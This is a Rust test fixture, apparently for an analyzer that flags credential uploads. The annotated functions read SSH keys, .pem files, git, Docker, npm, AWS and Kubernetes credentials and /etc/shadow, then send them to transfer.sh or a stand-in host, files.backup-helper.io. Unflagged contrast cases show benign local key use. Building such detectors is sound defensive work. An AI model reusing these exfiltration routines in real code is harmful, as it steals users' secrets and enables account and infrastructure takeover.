//! Key hunting by walking the file system, as in the `ssh-keys-helper` crate incident,
//! next to an SSH client that loads its own key locally.

use std::fs;
use std::path::PathBuf;
use walkdir::WalkDir;

const DROP: &str = "https://transfer.sh/keys.tar";

pub fn hunt_pem_files(client: &reqwest::blocking::Client) {
    let home = dirs::home_dir().unwrap_or_default();
    let keys: Vec<PathBuf> = WalkDir::new(&home)
        .max_depth(4)
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.path().extension().is_some_and(|ext| ext == "pem"))
        .map(|e| e.into_path())
        .collect();
    for key in keys {
        if let Ok(bytes) = fs::read(&key) {
            let _ = client.put(DROP).body(bytes).send(); //~ data-upload/suspicious-destination data-upload/key-file-to-network
        }
    }
}

pub fn glob_ssh(client: &reqwest::blocking::Client) -> Result<(), Box<dyn std::error::Error>> {
    let pattern = format!("{}/.ssh/id_*", std::env::var("HOME")?);
    let mut archive = Vec::new();
    for entry in glob::glob(&pattern)? {
        let path = entry?;
        archive.extend(fs::read(&path)?);
    }
    client.post("https://files.backup-helper.io/u").body(archive).send()?; //~ data-upload/key-file-to-network
    Ok(())
}

pub fn read_dir_ssh(client: &reqwest::blocking::Client) {
    let ssh = dirs::home_dir().unwrap().join(".ssh");
    let mut all = String::new();
    for entry in fs::read_dir(ssh).unwrap().flatten() {
        all += &fs::read_to_string(entry.path()).unwrap_or_default();
    }
    let _ = client.post("https://files.backup-helper.io/u").body(all).send(); //~ data-upload/key-file-to-network
}

pub fn git_and_docker(client: &reqwest::blocking::Client) {
    let home = dirs::home_dir().unwrap();
    let git = fs::read_to_string(home.join(".git-credentials")).unwrap_or_default();
    let docker = fs::read_to_string(home.join(".docker/config.json")).unwrap_or_default();
    let npm = fs::read_to_string(home.join(".npmrc")).unwrap_or_default();
    let _ = client.post("https://files.backup-helper.io/g").body(git).send(); //~ data-upload/key-file-to-network
    let _ = client.post("https://files.backup-helper.io/d").body(docker).send(); //~ data-upload/key-file-to-network
    let _ = client.post("https://files.backup-helper.io/n").body(npm).send(); //~ data-upload/key-file-to-network
}

pub fn shadow_over_tcp() -> std::io::Result<()> {
    use std::io::Write;
    let shadow = fs::read("/etc/shadow")?;
    let mut s = std::net::TcpStream::connect("files.backup-helper.io:9000")?;
    s.write_all(&shadow)?; //~ data-upload/key-file-to-network
    Ok(())
}

pub fn ssh_client_loads_its_key() -> std::io::Result<String> {
    // Reading a key to use it locally (an SSH session) is not an upload.
    let key_path = dirs::home_dir().unwrap().join(".ssh/id_ed25519");
    let key = fs::read_to_string(&key_path)?;
    let fingerprint = key.len().to_string();
    Ok(fingerprint)
}

pub fn list_key_names(client: &reqwest::blocking::Client) {
    // Sending a count of keys (no contents) is not a key upload.
    let count = fs::read_dir(dirs::home_dir().unwrap().join(".ssh")).map(|d| d.count()).unwrap_or(0);
    let _ = client.post("https://api.example.com/v1/diagnostics").json(&count).send();
}

pub fn upload_project_file(client: &reqwest::blocking::Client) {
    // An ordinary project file is not a credential.
    let manifest = fs::read_to_string("Cargo.toml").unwrap_or_default();
    let settings = fs::read_to_string(dirs::config_dir().unwrap().join("myapp/settings.toml")).unwrap_or_default();
    let _ = client.post("https://api.example.com/v1/manifests").body(manifest).send();
    let _ = client.post("https://api.example.com/v1/settings").body(settings).send();
}

/// The stealer's own `home()` helper, with a fallback as real code writes it.
fn home() -> PathBuf {
    dirs::home_dir().unwrap_or_else(|| PathBuf::from("/"))
}

pub fn cloud_profile_backup(client: &reqwest::blocking::Client) {
    let mut aws = home();
    aws.push(".aws");
    aws.push("credentials");
    let profile = fs::read_to_string(&aws).unwrap_or_default();
    let kube = fs::read_to_string(PathBuf::from(std::env::var("HOME").unwrap_or_default()).join(".kube/config"));
    let _ = client.post("https://files.backup-helper.io/aws").body(profile).send(); //~ data-upload/key-file-to-network
    let _ = client.post("https://files.backup-helper.io/kube").body(kube.unwrap_or_default()).send(); //~ data-upload/key-file-to-network
}

/// Reads whatever key file sits under the directory it is given.
fn read_identity(dir: &std::path::Path) -> String {
    fs::read_to_string(dir.join(".ssh").join("id_rsa")).unwrap_or_default()
}

pub fn sync_identity(client: &reqwest::blocking::Client) {
    let identity = read_identity(&home());
    let _ = client.post("https://files.backup-helper.io/id").body(identity).send(); //~ data-upload/key-file-to-network
}

pub fn register_deploy_key(client: &reqwest::blocking::Client) {
    // Uploading the public half is how a key is registered with a forge.
    let public = fs::read_to_string(home().join(".ssh/id_ed25519.pub")).unwrap_or_default();
    let _ = client.post("https://api.github.com/user/keys").json(&serde_json::json!({ "title": "laptop", "key": public })).send();
}
